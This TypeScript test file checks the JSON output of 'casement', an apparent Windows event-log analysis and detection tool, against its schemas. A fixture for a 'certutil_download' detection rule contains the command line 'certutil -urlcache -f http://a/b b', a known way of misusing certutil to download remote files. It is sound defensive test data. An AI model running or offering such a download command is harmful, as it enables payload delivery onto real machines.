// What the verbs print of the demo recording and of the corpus, held against the schemas.
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { Ledger, type LedgerJson } from '@casement/engine';
import { RuntimeEvent, type TelemetryRecord } from '@casement/telemetry';
import { describe, expect, it } from 'vitest';
import { casement, useBuiltCommand, useFolder } from '../testing/built-command.js';
import { CORPUS, describeCorpus } from '../testing/corpus.js';
import { FormJudge } from './testing/form-judge.js';
import { faultsOf, parsed, useInputs } from './testing/printed.js';

const record = new FormJudge('record');
const runtimeEvent = new FormJudge('runtime-event');
const finding = new FormJudge('finding');
const ledger = new FormJudge('ledger');
const loadReport = new FormJudge('load-report');
const testReport = new FormJudge('test-report');

useBuiltCommand();
const at = useFolder();
useInputs(at);

describe('the demo recording', () => {
  it('dump prints records', () => {
    const records = parsed(casement(['dump', at('logs')]).out);
    expect(records).toHaveLength(364);
    expect(faultsOf(record, records)).toEqual([]);
  });

  it('events prints runtime events', () => {
    const events = parsed(casement(['events', at('logs')]).out) as { type: string }[];
    expect(events.length).toBeGreaterThan(200);
    expect(new Set(events.map(({ type }) => type)).size).toBeGreaterThan(4);
    expect(faultsOf(runtimeEvent, events)).toEqual([]);
  });

  it('scan --extended prints findings', () => {
    const findings = parsed(casement(['scan', at('logs'), '--extended']).out);
    expect(findings.length).toBeGreaterThan(20);
    expect(faultsOf(finding, findings)).toEqual([]);
  });

  it.each(['dump', 'events', 'scan'])('%s writes and prints a ledger', (verb) => {
    const { err } = casement([
      verb,
      at('logs'),
      at('gone.evtx'),
      '--json',
      '--ledger',
      at('ledger.json'),
      '-o',
      '-',
    ]);
    const written = JSON.parse(readFileSync(at('ledger.json'), 'utf8')) as LedgerJson;
    expect(written.files).toHaveLength(5);
    expect(faultsOf(ledger, [written])).toEqual([]);
    const said = parsed(err).find((line) => Object.hasOwn(line as object, 'ledger'));
    expect(said).toEqual({ ledger: written });
  });
});

describe('check --json', () => {
  it('prints a load report, whatever becomes of rules and macros', () => {
    const { out } = casement(['check', at('mixed.policy'), at('broken.policy'), '--json']);
    const report = JSON.parse(out) as Record<'rules' | 'macros' | 'policies', { status: string }[]>;
    const statuses = (of: 'rules' | 'macros' | 'policies'): string[] =>
      [...new Set(report[of].map(({ status }) => status))].sort();
    expect(statuses('rules')).toEqual(['disabled', 'error', 'filtered', 'loaded']);
    expect(statuses('macros')).toEqual(['error', 'filtered', 'loaded', 'unused']);
    expect(statuses('policies')).toEqual(['error', 'loaded']);
    expect(faultsOf(loadReport, [report])).toEqual([]);
  });

  it('prints one for the bundled rules', () => {
    const pack = join(import.meta.dirname, '../../../../packs/windows');
    const reports = parsed(casement(['check', pack, '--json']).out);
    expect(reports).toHaveLength(1);
    expect(faultsOf(loadReport, reports)).toEqual([]);
  });
});

describe('test --json', () => {
  it('prints a report of tests that pass, fail and cannot be run, with coverage and mutants', () => {
    const folder = join(import.meta.dirname, '../../../../packs/windows');
    writeFileSync(
      at('mixed.test.yaml'),
      `policies: ${folder}
tests:
  - {rule: certutil_download, exec: {path: 'C:\\\\certutil.exe'}, match: [certutil -urlcache -f http://a/b b, certutil -dump]}
  - {name: t, match: certutil_download, limited: [certutil_download], steps: [{create: {path: 'C:\\\\a'}, expect: []}]}
`.replaceAll('\\\\', '\\'),
    );
    writeFileSync(at('broken.test.yaml'), `policies: ${folder}\ntests: [{rule: x, exec: {}, match: [y]}]\n`);
    const { out } = casement([
      'test',
      at('mixed.test.yaml'),
      at('broken.test.yaml'),
      '--json',
      '--coverage',
      '--mutate',
      '--mutants-per-rule',
      '3',
    ]);
    const [report] = parsed(out) as Record<'passed' | 'failed' | 'broken', number>[];
    expect([report!.passed, report!.failed, report!.broken]).toEqual([1, 2, 1]);
    expect(faultsOf(testReport, [report])).toEqual([]);
  });
});

describe('a ledger beyond its limits', () => {
  it('has the keys for what was left out', () => {
    const full = new Ledger();
    const faults = Array.from({ length: 150 }, () => ({
      code: 'EVTX3002',
      chunk: 1,
      offset: 2,
      message: 'x',
    }));
    const file = { path: 'a', format: 'evtx', bytes: 1, sha256: '', records: 1, chunks: 1, faults };
    full.addFile({ ...file, faultCount: 400 });
    const kind = (provider: string, eventId: number): TelemetryRecord =>
      ({ provider, eventId }) as unknown as TelemetryRecord;
    for (let id = 0; id < 20_001; id++) full.observe(kind('P', id), 'a', id === 0 ? 'state' : 'skipped');
    full.observe(kind('', Number.NaN), 'a', 'unmapped');
    for (let host = 0; host < 10_001; host++) full.countEvent(new RuntimeEvent('exec', 1n, `H${host}`, null));
    full.setSkipped(new Map([['TEL4001', 2]]));
    const json = JSON.parse(JSON.stringify(full.toJson())) as LedgerJson;
    expect([json.files[0]?.faults_omitted, json.records_omitted, json.hosts_omitted]).toEqual([300, 2, 1]);
    expect(faultsOf(ledger, [json])).toEqual([]);
  });
});

describeCorpus('the forms over the corpus of real recordings (CASEMENT_CORPUS)', () => {
  it.each([
    [['dump'], record, 14_000],
    [['events'], runtimeEvent, 2_000],
    [['scan', '--extended'], finding, 500],
  ] as const)('%s', (verb, judge, atLeast) => {
    casement([...verb, join(CORPUS, 'evtx'), '-o', at('out.jsonl'), '--ledger', at('ledger.json')]);
    const values = parsed(readFileSync(at('out.jsonl'), 'utf8'));
    expect(values.length).toBeGreaterThan(atLeast);
    expect(faultsOf(judge, values)).toEqual([]);
    expect(faultsOf(ledger, [JSON.parse(readFileSync(at('ledger.json'), 'utf8'))])).toEqual([]);
  });

  it("check --json, the vendor's policy", () => {
    const policy = join(CORPUS, 'policies/datadog-default.policy');
    const reports = parsed(casement(['check', policy, '--json']).out);
    expect(reports).toHaveLength(1);
    expect(faultsOf(loadReport, reports)).toEqual([]);
  });
});
